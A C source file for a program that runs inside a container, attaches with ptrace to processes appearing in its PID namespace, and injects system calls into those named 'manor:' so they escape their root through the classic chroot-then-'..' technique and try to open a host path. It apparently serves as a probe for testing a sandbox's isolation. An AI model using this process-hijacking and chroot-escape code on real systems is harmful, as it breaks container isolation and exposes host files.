/* A container that takes over who appears in its PID namespace and looks for the host's root from there.
 *
 *     tracer MARKER
 *
 * Every process of ours that shows up is traced once: made to leave its root by the oldest way there is (chroot below the
 * working directory, then up), and to open MARKER, a path of the host's. A line of stdout for each tells what it
 * calls itself, whether it made the directory "below" (0) and what opening gave. Where tracing is refused the line says
 * so, and that directory is made in /other, which is the root of who is waited for. With /out/stop it ends.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char known[1 << 22]; /* by pid */

/* Let it go on to where it enters or leaves a system call; 0 when it ended. */
static int next_stop(pid_t pid) {
    for (;;) {
        int status;
        if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
            return 0;
        if (WSTOPSIG(status) == (SIGTRAP | 0x80))
            return 1;
        if (status >> 16 == 0 && WSTOPSIG(status) != SIGTRAP)
            return 0; /* a signal: it is being ended */
    }
}

/* One system call in its name. It stands where it has left one. */
static long call(pid_t pid, long number, long first, long second, long third) {
    struct user_regs_struct at;
    if (ptrace(PTRACE_GETREGS, pid, 0, &at) < 0)
        return -ESRCH;
    at.rip -= 2; /* the instruction that brought it here */
    at.orig_rax = -1;
    at.rax = number, at.rdi = first, at.rsi = second, at.rdx = third;
    if (ptrace(PTRACE_SETREGS, pid, 0, &at) < 0 || !next_stop(pid) || !next_stop(pid))
        return -ESRCH;
    if (ptrace(PTRACE_GETREGS, pid, 0, &at) < 0)
        return -ESRCH;
    return at.rax;
}

static void put(pid_t pid, long at, const char *text) {
    long words[64] = {0};
    strncpy((char *)words, text, sizeof words - 1);
    for (size_t i = 0; i <= strlen(text) / sizeof *words; i++)
        ptrace(PTRACE_POKEDATA, pid, at + i * sizeof *words, words[i]);
}

static int to_exit_of_a_call(pid_t pid) {
    struct __ptrace_syscall_info info;
    do {
        if (!next_stop(pid))
            return 0;
        if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info) < 0)
            return 0;
    } while (info.op != PTRACE_SYSCALL_INFO_EXIT);
    return 1;
}

static void escape(pid_t pid, const char *name, const char *marker) {
    struct user_regs_struct before, after;
    if (!to_exit_of_a_call(pid) || ptrace(PTRACE_GETREGS, pid, 0, &before) < 0)
        return;
    long text = (before.rsp - 1024) & ~7L;
    put(pid, text, "below");
    long made = call(pid, SYS_mkdir, text, 0755, 0);
    call(pid, SYS_chroot, text, 0, 0);
    put(pid, text, "../../../../../../../../../../../../../../../..");
    call(pid, SYS_chdir, text, 0, 0);
    put(pid, text, ".");
    call(pid, SYS_chroot, text, 0, 0);
    put(pid, text, marker);
    long opened = call(pid, SYS_open, text, O_RDONLY, 0);
    if (opened >= 0)
        call(pid, SYS_close, opened, 0, 0);
    after = before;
    if ((long)after.rax <= -512 && (long)after.rax >= -516)
        after.rax = -EINTR; /* it is not restarted any more */
    ptrace(PTRACE_SETREGS, pid, 0, &after);
    printf("%s %ld %ld\n", name, made, opened);
}

static void take_over(pid_t pid, const char *marker) {
    char path[64], name[32] = "?";
    int status, length, file;
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    if ((file = open(path, O_RDONLY)) >= 0) {
        if ((length = read(file, name, sizeof name - 1)) > 0)
            name[length - 1] = 0;
        close(file);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0) {
        if (errno == EPERM) {
            printf("%s refused\n", name);
            mkdir("/other/below", 0755);
        }
        return;
    }
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
        return;
    if (strncmp(name, "manor:", 6) == 0)
        escape(pid, name, marker);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int count, char **arguments) {
    struct timespec moment = {0, 1000000};
    if (count != 2)
        return 2;
    setvbuf(stdout, 0, _IOLBF, 0);
    known[getpid()] = 1;
    puts("ready");
    while (access("/out/stop", F_OK) != 0) {
        DIR *all = opendir("/proc");
        for (struct dirent *each; all && (each = readdir(all));) {
            pid_t pid = isdigit(*each->d_name) ? atoi(each->d_name) : 0;
            if (pid > 0 && pid < (pid_t)sizeof known && !known[pid]) {
                known[pid] = 1;
                take_over(pid, arguments[1]);
            }
        }
        if (all)
            closedir(all);
        nanosleep(&moment, 0);
    }
    return 0;
}
